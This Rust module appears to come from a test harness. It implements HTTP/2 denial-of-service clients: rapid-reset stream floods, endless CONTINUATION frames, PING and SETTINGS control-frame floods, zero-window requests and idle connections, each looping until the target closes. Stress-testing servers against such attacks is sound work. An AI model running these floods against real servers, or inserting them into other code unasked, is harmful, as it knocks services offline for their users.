//! Clients that speak HTTP/2 as no browser does.

use std::io;
use std::time::Duration;

use futures_util::FutureExt;
use futures_util::future::BoxFuture;
use tokio::io::{AsyncWriteExt, ReadHalf, WriteHalf, split};
use tokio::time::sleep;

use super::connections::until_closed;
use super::frames::{
    CANCEL, CONTINUATION, END_HEADERS, END_STREAM, HEADERS, NO_WINDOW, PING, PREFACE, RST_STREAM,
    SETTINGS, head, many_headers, push,
};
use super::target::Stream;
use super::{ATTACKER, Target};

/// Streams or frames of one write.
const BATCH: u32 = 50;

/// Pause between two batches: a flood must be felt by the server, not by the machine.
const PAUSE: Duration = Duration::from_millis(1);

/// The two directions of a connection.
pub(crate) type Halves = (ReadHalf<Box<dyn Stream>>, WriteHalf<Box<dyn Stream>>);

/// Connects and sends the preface with these settings.
pub(crate) async fn connect(target: &Target, settings: &[u8]) -> io::Result<Halves> {
    let (reader, mut writer) = split(target.connect(ATTACKER, b"h2").await?);
    let mut first = PREFACE.to_vec();
    push(&mut first, SETTINGS, 0, 0, settings);
    writer.write_all(&first).await?;
    writer.flush().await?;
    Ok((reader, writer))
}

/// Sends batch after batch until the server closes; everything that it says is discarded.
async fn flood(
    (reader, mut writer): Halves,
    mut batch: impl FnMut() -> Vec<u8> + Send,
) -> io::Result<()> {
    let write = async {
        loop {
            writer.write_all(&batch()).await?;
            writer.flush().await?;
            sleep(PAUSE).await;
        }
    };
    tokio::select! {
        ended = write => ended,
        closed = until_closed(reader) => closed,
    }
}

pub(super) fn idle(target: Target, _: usize) -> BoxFuture<'static, io::Result<()>> {
    async move {
        let (reader, _writer) = connect(&target, &[]).await?;
        until_closed(reader).await
    }
    .boxed()
}

pub(super) fn reset(target: Target, _: usize) -> BoxFuture<'static, io::Result<()>> {
    async move {
        let halves = connect(&target, &[]).await?;
        let (head, mut stream) = (head(), 1);
        flood(halves, || {
            let mut batch = Vec::new();
            for _ in 0..BATCH {
                push(&mut batch, HEADERS, END_STREAM | END_HEADERS, stream, &head);
                push(&mut batch, RST_STREAM, 0, stream, &CANCEL);
                stream += 2;
            }
            batch
        })
        .await
    }
    .boxed()
}

pub(super) fn continuations(target: Target, _: usize) -> BoxFuture<'static, io::Result<()>> {
    async move {
        let (reader, mut writer) = connect(&target, &[]).await?;
        let mut begin = Vec::new();
        push(&mut begin, HEADERS, END_STREAM, 1, &head());
        writer.write_all(&begin).await?;
        let payload = many_headers();
        flood((reader, writer), || {
            let mut batch = Vec::new();
            push(&mut batch, CONTINUATION, 0, 1, &payload);
            batch
        })
        .await
    }
    .boxed()
}

pub(super) fn control(target: Target, _: usize) -> BoxFuture<'static, io::Result<()>> {
    async move {
        let (_unread, mut writer) = connect(&target, &[]).await?;
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            push(&mut batch, PING, 0, 0, &[7; 8]);
            push(&mut batch, SETTINGS, 0, 0, &[]);
        }
        loop {
            writer.write_all(&batch).await?;
            writer.flush().await?;
            sleep(PAUSE).await;
        }
    }
    .boxed()
}

pub(super) fn closed_window(target: Target, _: usize) -> BoxFuture<'static, io::Result<()>> {
    async move {
        let (reader, mut writer) = connect(&target, &NO_WINDOW).await?;
        let mut requests = Vec::new();
        for number in 0..BATCH {
            let flags = END_STREAM | END_HEADERS;
            push(&mut requests, HEADERS, flags, 2 * number + 1, &head());
        }
        writer.write_all(&requests).await?;
        writer.flush().await?;
        until_closed(reader).await
    }
    .boxed()
}
